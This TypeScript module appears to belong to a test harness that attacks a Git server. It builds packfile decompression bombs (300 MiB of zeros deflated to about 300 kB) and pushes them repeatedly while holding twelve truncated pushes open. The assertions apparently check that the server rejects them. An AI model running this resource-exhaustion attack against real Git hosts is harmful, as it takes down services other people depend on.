import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import type { PrepareAttack } from "./attack";
import { ask, beginRequest, formatCommands } from "./git-wire";
import { repeat } from "./repeat";

/** Of each object, unpacked; packed it is a thousandth. */
const objectBytes = 300 * 1024 * 1024;
const stalledConnections = 12;
const kinds = { commit: 1, tree: 2, blob: 3, tag: 4 };

function formatHead(kind: number, size: number): Buffer {
    const bytes = [(kind << 4) | (size & 15) | 128];
    for (let rest = Math.floor(size / 16); ; rest = Math.floor(rest / 128)) {
        bytes.push((rest & 127) | (rest > 127 ? 128 : 0));
        if (rest <= 127) return Buffer.from(bytes);
    }
}

/** A push of one object that is far larger than what comes of it. */
function formatBomb(kind: number, packed: Buffer): Buffer {
    const content = Buffer.concat([
        Buffer.from("PACK\0\0\0\x02\0\0\0\x01", "latin1"),
        formatHead(kind, objectBytes),
        packed,
    ]);
    const pack = Buffer.concat([content, createHash("sha1").update(content).digest()]);
    return Buffer.concat([formatCommands([{ ref: "refs/heads/bomb", after: "a".repeat(40) }]), pack]);
}

/** Pushes of objects that are small on the wire and large in memory: whole ones, and ones that lack the last bytes. */
export const packBombs: PrepareAttack = async ({ attacker, target }) => {
    const packed = deflateSync(Buffer.alloc(objectBytes));
    const bombs = Object.values(kinds).map((kind) => formatBomb(kind, packed));
    let at = 0;
    const pushNext = async () => {
        at += 1;
        const report = await ask(attacker, target, "git-receive-pack", bombs[at % bombs.length] as Buffer);
        assert.match(report.toString("latin1"), /ng refs\/heads\/bomb unpacker error/);
    };
    return {
        name: `${stalledConnections} pushes of 300 MiB in 300 kB that stall, and others of every type that do not`,
        begin: async () => {
            const stalled = await Promise.all(
                Array.from({ length: stalledConnections }, (_, index) => {
                    const bomb = bombs[index % bombs.length] as Buffer;
                    return beginRequest(attacker, target, "git-receive-pack", bomb.subarray(0, -30), bomb.length);
                }),
            );
            const pushing = repeat(2, pushNext);
            return {
                end: async () => {
                    for (const socket of stalled) socket.destroy();
                    await pushing.end();
                },
            };
        },
    };
};
